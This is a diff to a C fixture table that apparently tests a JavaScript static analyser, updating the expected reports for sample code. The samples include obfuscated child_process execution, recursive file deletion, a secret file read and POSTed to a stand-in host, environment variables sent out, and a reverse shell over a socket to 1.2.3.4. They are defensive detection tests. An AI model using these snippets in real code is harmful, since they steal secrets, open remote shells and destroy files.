@@ -26,7 +26,9 @@ static const struct fixture_case cases[] = {
 	  "0 command 'id' @nested\n" },
 	{ "joined property",
 	  "const cp = require('child_' + 'process'); cp['ex' + 'ec']('id');",
-	  "0 command 'id' @nested\n" },
+	  "0 evaluate 'child_process'\n"
+	  "1 evaluate 'exec'\n"
+	  "2 command 'id' @nested\n" },
 	{ "unknown property",
 	  "const cp = require('child_process'); cp[name]('id');",
 	  "0 evaluate 'child_process.' 'id'\n" },
@@ -65,38 +67,52 @@ static const struct fixture_case cases[] = {
 	  "2 remove '/a/x' +recursive @nested\n3 remove '_' +recursive @nested\n" },
 	{ "fromCharCode",
 	  "require('child_process').execSync(String.fromCharCode(105, 100));",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "loop over codes",
 	  "let s = ''; for (let i = 0; i < 2; i++) s += String.fromCharCode([105, 100][i]); "
 	  "require('child_process').execSync(s);",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "mapped codes",
 	  "require('child_process').execSync([104, 101].map(c => String.fromCharCode(c ^ "
 	  "1)).join(''));",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "reversed",
 	  "require('child_process').execSync('a/ mr'.split('').reverse().join(''));",
-	  "0 command 'rm' '/a' @decoded @nested\n1 remove '/a' @decoded @nested\n" },
+	  "0 evaluate 'rm /a'\n"
+	  "1 command 'rm' '/a' @decoded @nested\n"
+	  "2 remove '/a' @decoded @nested\n" },
 	{ "Buffer",
 	  "require('child_process').execSync(Buffer.from('aWQ=', 'base64').toString());",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "atob",
 	  "eval(atob('cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy9hJyk='));",
-	  "0 remove '/a' @decoded @nested\n" },
+	  "0 evaluate 'require('fs').rmSync('/a')'\n"
+	  "1 remove '/a' @decoded @nested\n" },
 	{ "hex",
 	  "require('child_process').execSync(Buffer.from('6964', 'hex') + '');",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "percent",
 	  "require('child_process').execSync(decodeURIComponent('%69%64'));",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "replace",
 	  "require('child_process').execSync('rXm'.replace('X', ''));",
 	  "0 command 'rm' @nested\n" },
 	{ "files",
 	  "const fs = require('fs'); fs.readFileSync('/a'); fs.writeFileSync('/b', 'x'); "
 	  "fs.appendFileSync('/c', 'y'); fs.chmodSync('/d', 0o777); fs.renameSync('/e', '/f');",
-	  "0 read '/a'\n1 write '/b' +truncates\n2 write '/c' +appends\n3 permission '/d' '777'\n"
-	  "4 read '/e' +recursive\n5 write '/f' +truncates <4\n" },
+	  "0 read '/a'\n"
+	  "1 write '/b' +truncates\n"
+	  "2 write '/c' +appends\n"
+	  "3 permission '/d' '777'\n"
+	  "4 read '/e' +recursive\n"
+	  "5 write '/f' +truncates <4\n"
+	  "6 remove '/e'\n" },
 	{ "promises",
 	  "const fs = require('fs').promises; fs.rm('/a', {recursive: true}); "
 	  "require('fs/promises').unlink('/b');",
@@ -111,12 +127,14 @@ static const struct fixture_case cases[] = {
 	{ "a secret that is sent",
 	  "const k = require('fs').readFileSync('/s', 'utf8'); fetch('http://h/', {method: 'POST', "
 	  "body: k});",
-	  "0 read '/s'\n1 network 'http://h/' +sends +fetches <0\n" },
+	  "0 read '/s'\n"
+	  "1 network 'http://h/' 'POST' +sends +fetches <0\n" },
 	{ "in a callback",
 	  "const fs = require('fs'), https = require('https'); fs.readFile('/s', (err, data) => { "
 	  "const r = https.request({hostname: 'h', path: '/p', method: 'POST'}); r.write(data); "
 	  "r.end(); });",
-	  "0 read '/s'\n1 network 'h/p' +sends +fetches @function <0\n" },
+	  "0 read '/s'\n"
+	  "1 network 'h/p' 'POST' +sends +fetches @function <0\n" },
 	{ "environment that is sent",
 	  "require('axios').post('http://h', {env: process.env});",
 	  "0 read '$*'\n1 network 'http://h' +sends <0\n" },
@@ -141,7 +159,8 @@ static const struct fixture_case cases[] = {
 	  "const sh = require('child_process').spawn('/bin/sh', []); const c = new "
 	  "(require('net').Socket)(); c.connect(80, '1.2.3.4', () => { c.pipe(sh.stdin); "
 	  "sh.stdout.pipe(c); });",
-	  "0 command '/bin/sh' +interactive <2\n1 call 'net.Socket'\n"
+	  "0 command '/bin/sh' +interactive <2 <1\n"
+	  "1 call 'net.Socket'\n"
 	  "2 network '1.2.3.4:80' +sends <0\n" },
 	{ "net.connect",
 	  "const c = require('net').connect({host: 'h', port: 1}); "
@@ -218,14 +237,17 @@ static const struct fixture_case cases[] = {
 	{ "code in an address",
 	  "await import('data:text/javascript,' + encodeURIComponent(x)); await "
 	  "import('data:text/javascript;base64,cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy9hJyk=');",
-	  "0 remove '/a' @decoded @nested\n" },
+	  "0 evaluate 'require('fs').rmSync('/a')'\n"
+	  "1 remove '/a' @decoded @nested\n" },
 	{ "list of paths",
 	  "import {deleteSync} from 'del'; deleteSync(['/a', '/b']);",
 	  "0 remove '/a' +recursive\n1 remove '/b' +recursive\n" },
 	{ "decoder with an index",
 	  "const t = ['ZXhlY1N5bmM=', 'aWQ=']; const d = i => Buffer.from(t[i - 0], "
 	  "'base64').toString(); require('child_process')[d('0x0')](d('0x1'));",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'execSync'\n"
+	  "1 evaluate 'id'\n"
+	  "2 command 'id' @decoded @nested\n" },
 	{ "promise",
 	  "const https = require('https'); const load = u => new Promise((ok, no) => { https.get(u, "
 	  "r => { let t = ''; r.on('data', d => { t += d; }); r.on('end', () => ok(t)); }); }); "
